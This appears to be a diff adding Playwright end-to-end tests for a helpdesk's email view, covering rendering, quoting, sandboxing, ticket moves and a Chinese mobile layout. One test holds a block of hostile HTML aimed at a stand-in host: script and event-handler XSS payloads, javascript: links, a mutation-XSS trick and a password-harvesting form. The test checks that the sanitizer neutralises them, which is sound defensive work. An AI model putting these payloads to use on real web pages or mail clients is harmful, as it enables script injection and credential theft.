@@ -1,0 +1,206 @@
+"""Mail in the console: shown in words and as it was laid out, safely, and moved to where it belongs."""
+
+import re
+import time
+from email.message import EmailMessage
+from email.utils import make_msgid
+
+import pytest
+
+from conftest import shot, sign_in
+from people import stamp
+from server import OWNER, Server, signed_in
+
+ADDRESS = "support@qinghe.example"
+
+
+class Mailroom:
+    """One Deskbell with a mailbox that takes mail over HTTP."""
+
+    def __init__(self):
+        self.server = Server("--demo")
+        self.owner = signed_in(self.server, *OWNER)
+        inbox = self.owner.json("POST", "/api/v1/inboxes", {"kind": "email", "name": "Support"}, 201)
+        self.inbox = inbox["id"]
+        made = self.owner.json("POST", f"/api/v1/inboxes/{self.inbox}/mailbox/token", expect=201)
+        self.token, self.inbound = made["token"], made["inbound_url"]
+
+    def receive(self, raw):
+        """Hands a mail over as an MTA's pipe does; the ticket follows a moment later."""
+        path = self.inbound[self.inbound.index("/api/v1"):]
+        status, _, answer = self.owner.call("POST", path, raw=raw, headers={
+            "Authorization": f"Bearer {self.token}", "Content-Type": "message/rfc822", "Cookie": "",
+        })
+        assert status == 202, answer
+
+    def ticket(self, subject, timeout=30):
+        """The newest ticket of a subject, waited for."""
+        until = time.time() + timeout
+        while time.time() < until:
+            items = self.owner.json("GET", "/api/v1/tickets?channel=email&status=all&sort=newest&limit=50")["items"]
+            found = next((one for one in items if one["subject"] == subject), None)
+            if found:
+                return found
+            time.sleep(0.2)
+        raise AssertionError(f"no ticket {subject!r}")
+
+    def stop(self):
+        self.server.remove()
+
+
+@pytest.fixture(scope="module")
+def room():
+    room = Mailroom()
+    yield room
+    room.stop()
+
+
+def letter(subject, text, sender="王梅 <mei.wang@mail.example>", html=None, **headers):
+    mail = EmailMessage()
+    mail["From"], mail["To"], mail["Subject"] = sender, ADDRESS, subject
+    mail["Message-ID"] = make_msgid(domain="mail.example")
+    mail["Date"] = time.strftime("%a, %d %b %Y %H:%M:%S +0000", time.gmtime())
+    for name, value in headers.items():
+        mail[name.replace("_", "-")] = value
+    mail.set_content(text)
+    if html:
+        mail.add_alternative(html, subtype="html")
+    return mail
+
+
+def open_ticket(room, context, subject, **options):
+    page = context(**options).new_page()
+    sign_in(page, room.server)
+    ticket = room.ticket(subject)
+    page.goto(f"{room.server.url}/tickets/{ticket['number']}?list=all_open")
+    page.get_by_role("log").wait_for()
+    return page, ticket
+
+
+FRAME = "document.querySelector('iframe.mail-frame').contentDocument.body"
+
+
+def test_a_mail_shows_its_words_its_quote_and_its_layout(room, context):
+    subject = stamp("Late parcel")
+    room.receive(letter(
+        subject, "The parcel is late again.\n\nOn Monday, Qinghe wrote:\n> It left our warehouse.\n",
+        html="<html><body><table bgcolor='#eeeeee'><tr><td style='color:#b00'><b>The parcel is late again.</b></td></tr></table>"
+             "<img src='https://pictures.example/banner.png' width=300 height=50><img src='https://spy.example/dot.gif' width=1 height=1></body></html>",
+        Cc="Li Lei <li.lei@mail.example>",
+    ).as_bytes())
+    page, ticket = open_ticket(room, context, subject)
+    elsewhere = []
+    page.on("request", lambda request: elsewhere.append(request.url) if room.server.url not in request.url and not request.url.startswith(("data:", "blob:")) else None)
+    log = page.get_by_role("log")
+    log.get_by_text("The parcel is late again.").wait_for()
+    log.get_by_text("Cc Li Lei").wait_for()
+    assert log.get_by_text("It left our warehouse").count() == 0
+    log.get_by_role("button", name="Show the quoted mail").click()
+    log.get_by_text("It left our warehouse").wait_for()
+    log.get_by_role("button", name="Show as sent").click()
+    log.get_by_text("1 picture from elsewhere was not loaded").wait_for()
+    assert page.evaluate(f"{FRAME}.querySelector('b').textContent") == "The parcel is late again."
+    assert page.evaluate(f"getComputedStyle({FRAME}.querySelector('td')).color") == "rgb(187, 0, 0)"
+    assert page.evaluate("document.querySelector('iframe.mail-frame').getAttribute('sandbox')") == "allow-same-origin allow-popups allow-popups-to-escape-sandbox"
+    shot(page, "mail-as-sent")
+    log.get_by_role("button", name="Why is this here?").click()
+    page.get_by_role("dialog").get_by_text("it began a new one").wait_for()
+    page.keyboard.press("Escape")
+    log.get_by_role("button", name="Original").click()
+    dialog = page.get_by_role("dialog")
+    dialog.get_by_role("radio", name="Headers").click()
+    dialog.get_by_role("cell", name=re.compile("mail.example")).first.wait_for()
+    with page.expect_download() as download:
+        dialog.get_by_role("link", name="Download the source").click()
+    assert subject in open(download.value.path(), encoding="utf-8").read()
+    assert elsewhere == []
+
+
+HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/style.png)} *{position:fixed}</style>
+<link rel="stylesheet" href="https://evil.example/link.css"></head><body onload="parent.evil='onload'">
+<p>Harmless words</p><script>parent.evil='script'</script><img src=x onerror="parent.evil='onerror'">
+<a href="javascript:parent.evil='link'">Click me</a><a href=" java&#10;script:parent.evil='link'">And me</a>
+<svg onload="parent.evil='svg'"><script>parent.evil='svg'</script></svg><iframe srcdoc="<script>parent.parent.evil='srcdoc'</script>"></iframe>
+<form action="https://evil.example/form"><input name=password autofocus onfocus="parent.evil='focus'"><button>Send</button></form>
+<object data="https://evil.example/object"></object><embed src="https://evil.example/embed"><video src="https://evil.example/video" autoplay></video>
+<math><mtext><table><mglyph><style><img src=x onerror="parent.evil='math'"></style></mglyph></table></mtext></math>
+<div style="background:url(https://evil.example/div.png);position:fixed;inset:0;z-index:9">Over everything</div>
+<img srcset="https://evil.example/set.png 1x" src="https://evil.example/img.png"><details open ontoggle="parent.evil='toggle'">d</details>
+</body></html>"""
+
+
+def test_a_hostile_mail_runs_nothing_and_loads_nothing(room, context):
+    subject = stamp("You have won")
+    room.receive(letter(subject, "Harmless words", sender="Eve <eve@evil.example>", html=HOSTILE).as_bytes())
+    page, _ = open_ticket(room, context, subject)
+    elsewhere, problems = [], []
+    page.on("request", lambda request: elsewhere.append(request.url) if "evil.example" in request.url else None)
+    page.on("dialog", lambda dialog: (problems.append(dialog.message), dialog.dismiss()))
+    page.on("console", lambda message: problems.append(message.text) if "Content Security Policy" in message.text else None)
+    address = page.url
+    log = page.get_by_role("log")
+    log.get_by_role("button", name="Show as sent").click()
+    page.locator("iframe.mail-frame").wait_for()
+    page.wait_for_timeout(1000)
+    assert "Harmless words" in page.evaluate(f"{FRAME}.textContent")
+    markup = page.evaluate(f"{FRAME}.innerHTML")
+    for sign in ("script", "onerror", "onload", "evil", "<form", "<input", "<iframe", "<svg", "fixed", "url("):
+        assert sign not in markup, markup
+    for words in ("Click me", "And me"):
+        page.evaluate(f"[...{FRAME}.querySelectorAll('a')].find((a) => a.textContent === '{words}')?.click()")
+    page.wait_for_timeout(500)
+    shot(page, "mail-hostile")
+    assert page.evaluate("window.evil") is None
+    assert elsewhere == [] and problems == [] and page.url == address
+    assert page.context.pages == [page]
+
+
+def test_a_mail_on_the_wrong_ticket_is_moved_and_moved_back(room, context):
+    first, second = stamp("Order 4711"), stamp("Something about 4711")
+    room.receive(letter(first, "Please change the address.").as_bytes())
+    target = room.ticket(first)
+    room.receive(letter(second, "The new address is Long Street 1.").as_bytes())
+    page, source = open_ticket(room, context, second)
+    log = page.get_by_role("log")
+    log.get_by_role("button", name="Why is this here?").click()
+    page.get_by_role("button", name="Move to another ticket").click()
+    dialog = page.get_by_role("dialog", name="Move to another ticket")
+    dialog.get_by_role("combobox").fill(str(target["number"]))
+    dialog.get_by_role("option", name=re.compile(f"#{target['number']}")).wait_for()
+    shot(page, "mail-move")
+    page.keyboard.press("Enter")
+    page.wait_for_url(re.compile(f"/tickets/{target['number']}"))
+    log.get_by_text("The new address is Long Street 1.").wait_for()
+    page.get_by_role("status").get_by_role("button", name="Undo").click()
+    page.wait_for_url(re.compile(f"/tickets/{source['number']}"))
+    log.get_by_text("The new address is Long Street 1.").first.wait_for()
+
+
+def test_mail_fits_a_phone_in_chinese_and_dark(room, context):
+    subject = stamp("手机")
+    room.receive(letter(
+        subject, "包裹还没有到。\n\n在 2026年11月24日，下午3:05，清河茶铺 写道：\n> 已经发出。\n",
+        html="<table width=900 bgcolor='#fff8e0'><tr><td><h1>包裹还没有到</h1></td></tr></table>",
+    ).as_bytes())
+    room.owner.json("PATCH", "/api/v1/session", {"locale": "zh-Hans"}, 200)
+    try:
+        phone(room, context, subject)
+    finally:
+        room.owner.json("PATCH", "/api/v1/session", {"locale": "en"}, 200)
+
+
+def phone(room, context, subject):
+    page, _ = open_ticket(room, context, subject, width=360, height=740, dark=True, locale="zh-CN")
+    log = page.get_by_role("log")
+    log.get_by_text("包裹还没有到").first.wait_for()
+    log.get_by_role("button", name="显示原样").click()
+    page.locator("iframe.mail-frame").wait_for()
+    page.wait_for_timeout(500)
+    shot(page, "mail-phone")
+    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+    for path in ("/settings/mail", "/settings/inboxes"):
+        page.goto(room.server.url + path)
+        page.wait_for_timeout(800)
+        shot(page, "mail-phone" + path.replace("/", "-"))
+        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), path
